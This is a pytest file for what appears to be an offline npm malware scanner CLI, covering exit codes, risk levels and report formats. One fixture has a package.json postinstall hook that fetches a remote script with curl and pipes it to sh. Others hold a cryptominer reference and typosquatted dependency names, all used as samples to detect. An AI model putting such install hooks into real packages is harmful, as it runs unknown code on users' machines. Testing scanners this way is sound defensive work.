import json

import pytest

from npminspector.cli import exit_status, main
from npminspector.utils.metadata import PackageAssessment, Severity


def run_cli(args, capsys):
    with pytest.raises(SystemExit) as exc:
        main(args)
    out, err = capsys.readouterr()
    return exc.value.code, out, err


@pytest.fixture(autouse=True)
def isolated_cwd(tmp_path, monkeypatch):
    # Keep config discovery away from the project's own files
    monkeypatch.chdir(tmp_path)


def test_risky_package_exits_non_zero(make_package, capsys):
    path = make_package({
        "package.json": {"name": "evil", "scripts": {"postinstall": "curl http://x/y | sh"}},
        "index.js": "require('coinhive')",
    })
    code, out, _ = run_cli([path, "-f", "json", "--no-color"], capsys)
    data = json.loads(out)
    assert code == 1
    assert data[0]["riskLevel"] == "HIGH"


def test_clean_package_exits_zero(make_package, capsys):
    path = make_package({"index.js": "module.exports = 1;"})
    code, out, _ = run_cli([path, "--no-color"], capsys)
    assert code == 0
    assert "ANALYSIS REPORT: pkg" in out
    assert "Package looks safe" in out


def test_medium_package_exits_zero(make_package, capsys):
    path = make_package({"package.json": {"dependencies": {"lodahs": "1.0.0", "expres": "4.0.0"}}})
    code, out, _ = run_cli([path, "-f", "json"], capsys)
    assert json.loads(out)[0]["riskLevel"] == "MEDIUM"
    assert code == 0


def test_missing_target_exits_one(tmp_path, capsys):
    code, _, err = run_cli([str(tmp_path / "node_modules")], capsys)
    assert code == 1
    assert "Path not found" in err


def test_node_modules_batch(make_package, tmp_path, capsys):
    nm = tmp_path / "node_modules"
    make_package({"index.js": "ok();"}, name="clean", root=nm)
    make_package({"index.js": "coinhive; metasploit"}, name="bad", root=nm / "@evil")
    code, out, _ = run_cli([str(nm), "-f", "json", "-j", "2"], capsys)
    data = json.loads(out)
    assert [d["packageName"] for d in data] == ["@evil/bad", "clean"]
    assert data[0]["riskLevel"] == "CRITICAL"
    assert code == 1


def test_report_written_to_file(make_package, tmp_path, capsys):
    path = make_package({"index.js": "ok();"})
    out_file = tmp_path / "reports" / "scan.csv"
    code, out, err = run_cli([path, "-f", "csv", "-o", str(out_file)], capsys)
    assert code == 0
    assert out == ""
    assert out_file.read_text().startswith("package,risk_level,file")
    assert "Report written to" in err


def test_format_from_config(make_package, tmp_path, capsys):
    (tmp_path / "npminspector.toml").write_text('output_format = "json"\n')
    path = make_package({"index.js": "ok();"})
    code, out, _ = run_cli([path], capsys)
    assert json.loads(out)[0]["packageName"] == "pkg"


def test_exit_status():
    def at(level):
        return PackageAssessment(package_name="x", risk_level=level)

    assert exit_status([]) == 0
    assert exit_status([at(Severity.LOW), at(Severity.MEDIUM)]) == 0
    assert exit_status([at(Severity.LOW), at(Severity.HIGH)]) == 1
    assert exit_status([at(Severity.CRITICAL)]) == 1


def test_banner_goes_to_stderr(make_package, capsys):
    path = make_package({"index.js": "module.exports = 1;"})
    code, out, err = run_cli([path, "--banner", "--no-color", "-f", "json"], capsys)
    assert code == 0
    assert "Offline malware heuristics for npm packages" in err
    assert "\x1b[" not in err
    assert json.loads(out)[0]["riskLevel"] == "LOW"
